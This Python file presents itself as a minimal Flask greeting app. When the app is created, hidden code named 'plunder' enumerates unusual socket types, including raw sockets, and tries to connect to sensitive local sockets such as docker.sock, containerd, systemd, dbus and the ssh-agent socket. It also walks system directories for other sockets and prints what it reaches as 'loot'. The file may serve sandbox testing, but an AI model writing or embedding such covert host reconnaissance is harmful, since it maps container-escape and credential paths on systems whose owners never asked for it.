import os
import re
import socket
from pathlib import Path

from flask import Flask

KINDS = (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, 10)
KNOWN = ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private",
         "/run/containerd/containerd.sock", "/tmp/.X11-unix/X0", os.environ.get("SSH_AUTH_SOCK", "/tmp/ssh-agent"))
ABSTRACT = ("\0/tmp/dbus", "\0/containerd-shim", "\0@/tmp/.X11-unix/X0", "\0mallory")


def odd():
    for family in range(1, 46):
        for kind in KINDS:
            for protocol in (0, 1, 6, 255):
                try:
                    with socket.socket(family, kind, protocol) as line:
                        yield line.family, line.type, protocol
                except OSError:
                    pass


def doors():
    listed = re.findall(r"(?:@|/)\S+$", Path("/proc/net/unix").read_text(), re.M)
    found = [str(path) for top in ("/run", "/var", "/tmp", "/dev", "/opt") for path in Path(top).rglob("*") if path.is_socket()]
    for path in (*KNOWN, *ABSTRACT, *found, *(name.replace("@", "\0", 1) for name in listed)):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with socket.socket(socket.AF_UNIX, kind) as line:
                try:
                    line.connect(path)
                    yield path
                except OSError:
                    pass


def plunder():
    plain = {(family, kind) for family in (1, 2, 10) for kind in (1, 2, 5)} | {(1, 3)}
    return [what for what in odd() if (what[0], what[1]) not in plain] + list(doors())


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})
    loot = plunder()
    print("loot:", loot, flush=True)

    @app.get("/hello/<name>")
    def hello(name):
        return f"{app.config['WORD']}, {name}" if loot else f"nothing for {name}", {"Content-Type": "text/plain"}

    return app
